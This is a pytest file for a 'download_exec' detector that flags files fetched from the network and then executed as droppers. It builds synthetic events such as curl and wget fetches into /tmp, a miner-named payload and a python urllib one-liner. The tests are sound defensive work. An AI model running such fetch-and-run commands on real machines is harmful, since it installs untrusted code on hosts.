"""download_exec: a file fetched from the network, then executed (issue 12: the dropper
scenario was titled after its payload's name, "Cryptocurrency miner", not the download)."""

from __future__ import annotations

from detector_factories import (alerts, connect, execve, init, login_shell, open_file, proc,
                                run, sec)

from vigil.detectors.download_exec import DownloadExecDetector
from vigil.detectors.registry import DETECTORS
from vigil.events.model import Event, FdInfo
from vigil.priority import Priority

O_WRONLY_CREAT_TRUNC = 0o1101


def write(p, path: str, ts: int, ino: int = 4242) -> Event:
    ev = open_file(p, path, flags=O_WRONLY_CREAT_TRUNC, ts=ts)
    ev.fd = FdInfo(num=3, type="file", name=path, ino=ino)
    return ev


def test_curl_download_chmod_and_run_from_tmp() -> None:
    shell = login_shell()
    curl = proc("/usr/bin/curl", "-s", "-o", "kdevtmpfsi", "http://203.0.113.5/k", pid=800,
                parent=shell)
    payload = proc("/tmp/.x/kdevtmpfsi", pid=801, parent=shell, exe_ino=4242)
    dets = run(DownloadExecDetector(), [
        connect(curl, "203.0.113.5", 80, ts=sec(0)),
        write(curl, "/tmp/.x/kdevtmpfsi", ts=sec(0.1)),
        execve(payload, ts=sec(2))])
    assert [d.rule_id for d in alerts(dets)] == ["download_exec.executed"]
    d = dets[0]
    assert d.priority == Priority.CRITICAL and d.entity.path == "/tmp/.x/kdevtmpfsi"
    assert d.data["title"] == "Downloaded file executed (dropper)"
    assert "curl" in d.output and "203.0.113.5:80" in d.output


def test_wget_opening_first_then_connecting_and_a_moved_file() -> None:
    """wget opens its output before connecting; `mv` keeps the inode."""
    shell = login_shell()
    wget = proc("/usr/bin/wget", "-q", "http://203.0.113.5/tool", pid=810, parent=shell)
    moved = proc("/usr/local/bin/tool", pid=811, parent=shell, exe_ino=77)
    dets = run(DownloadExecDetector(), [
        write(wget, "/root/tool", ts=sec(0), ino=77),
        connect(wget, "203.0.113.5", 80, ts=sec(0.1)),
        execve(moved, ts=sec(5))])
    assert [d.priority for d in alerts(dets)] == [Priority.ERROR]


def test_downloaded_script_run_by_an_interpreter() -> None:
    shell = login_shell()
    renamed = proc("/opt/x/fetch", pid=820, parent=shell)  # any binary that connects
    sh = proc("/usr/bin/dash", "./i.sh", "--quiet", pid=821, parent=shell, cwd="/var/tmp")
    dets = run(DownloadExecDetector(), [
        connect(renamed, "198.51.100.7", 8080, ts=sec(0)),
        write(renamed, "/var/tmp/i.sh", ts=sec(0.2)),
        execve(sh, ts=sec(1))])
    assert [d.entity.path for d in alerts(dets)] == ["/var/tmp/i.sh"]


def test_look_alikes() -> None:
    shell = login_shell()
    curl = proc("/usr/bin/curl", "-o", "hello.tgz", "http://203.0.113.5/hello.tgz", pid=830,
                parent=shell)
    tar = proc("/usr/bin/tar", "xzf", "hello.tgz", pid=831, parent=shell)
    configure = proc("/usr/bin/dash", "./configure", pid=832, parent=shell, cwd="/tmp/b")
    cc = proc("/usr/bin/cc", "-o", "app", "main.c", pid=833, parent=shell)
    app = proc("/tmp/b/app", pid=834, parent=shell)
    dets = run(DownloadExecDetector(), [
        # a source release: downloaded, unpacked by tar (not networked), built by cc
        connect(curl, "203.0.113.5", 80, ts=sec(0)), write(curl, "/tmp/b/hello.tgz", sec(0.1)),
        write(tar, "/tmp/b/configure", sec(1), ino=5), execve(configure, sec(2)),
        write(cc, "/tmp/b/app", sec(3), ino=6), execve(app, sec(4)),
        # a DNS lookup is not a download
        connect(cc, "10.0.0.2", 53, ts=sec(3.5), proto="udp")])
    assert dets == []


def test_a_download_executed_after_the_window_is_not_linked() -> None:
    shell = login_shell()
    curl = proc("/usr/bin/curl", pid=840, parent=shell)
    tool = proc("/tmp/tool", pid=841, parent=shell)
    dets = run(DownloadExecDetector(), [connect(curl, "203.0.113.5", 80, ts=sec(0)),
                                        write(curl, "/tmp/tool", sec(0.1)),
                                        execve(tool, sec(3600))])
    assert dets == []


def test_package_managers_are_audited() -> None:
    """pip writing a console script is no fetcher (it is no download tool); a vendor's
    maintainer script fetching and running a helper under dpkg is audited."""
    pip = proc("/usr/bin/python3.11", "-m", "pip", "install", "black", pid=850,
               parent=init())
    black = proc("/usr/local/bin/black", pid=851, parent=login_shell(), exe_ino=9)
    dpkg = proc("/usr/bin/dpkg", "-i", "agent.deb", pid=852, parent=init())
    post = proc("/usr/bin/dash", "/var/lib/dpkg/info/agent.postinst", pid=853, parent=dpkg)
    curl = proc("/usr/bin/curl", "-o", "/tmp/helper", "https://vendor.example/h", pid=854,
                parent=post)
    helper = proc("/tmp/helper", pid=855, parent=post)
    dets = run(DownloadExecDetector(), [connect(pip, "151.101.0.223", 443, ts=sec(0)),
                                        write(pip, "/usr/local/bin/black", sec(1), ino=9),
                                        execve(black, sec(10)),
                                        connect(curl, "203.0.113.5", 443, ts=sec(11)),
                                        write(curl, "/tmp/helper", sec(11.5), ino=10),
                                        execve(helper, sec(12))])
    assert len(dets) == 1 and dets[0].suppressed.entry == "download_exec.package_managers=dpkg"


def test_registered_before_the_miner_detector() -> None:
    """One exec can be both (a dropped payload named like a miner): the first Critical
    detection names the incident, and the behaviour is the download-and-run."""
    names = list(DETECTORS)
    assert names.index("download_exec") < names.index("crypto_mining")


def test_shell_redirect_download_is_opened_before_the_child_becomes_curl() -> None:
    """`curl URL > /tmp/x`: the forked shell opens /tmp/x, then execs curl (same pid)."""
    shell = login_shell()
    child = proc("/usr/bin/bash", pid=860, parent=shell)
    curl = proc("/usr/bin/curl", "-s", "http://203.0.113.5/x", pid=860, parent=shell)
    x = proc("/tmp/x", pid=861, parent=shell)
    dets = run(DownloadExecDetector(), [write(child, "/tmp/x", sec(0)), execve(curl, sec(0.01)),
                                        connect(curl, "203.0.113.5", 80, ts=sec(0.02)),
                                        execve(x, sec(1))])
    assert [d.data["writer"] for d in dets] == ["curl"]


def test_long_lived_programs_writing_and_running_their_own_scripts_are_not_droppers() -> None:
    """A test runner or a build that connected to a local service earlier writes a script
    and runs it: not a download tool, no inline code, not run from /tmp."""
    runner = proc("/usr/bin/python3.11", "-m", "pytest", "tests", pid=870, parent=init())
    job = proc("/usr/bin/python3.11", "/tmp/t/job.py", pid=871, parent=runner)
    dets = run(DownloadExecDetector(), [connect(runner, "127.0.0.1", 5432, ts=sec(0)),
                                        write(runner, "/tmp/t/job.py", sec(1)),
                                        execve(job, sec(2))])
    assert dets == []


def test_a_one_liner_downloader_is_a_fetcher() -> None:
    py = proc("/usr/bin/python3", "-c", "import urllib.request as u;open('/tmp/s','wb').write("
              "u.urlopen('http://203.0.113.5/s').read())", pid=880, parent=login_shell())
    s = proc("/tmp/s", pid=881, parent=login_shell())
    dets = run(DownloadExecDetector(), [connect(py, "203.0.113.5", 80, ts=sec(0)),
                                        write(py, "/tmp/s", sec(0.1)), execve(s, sec(1))])
    assert len(alerts(dets)) == 1
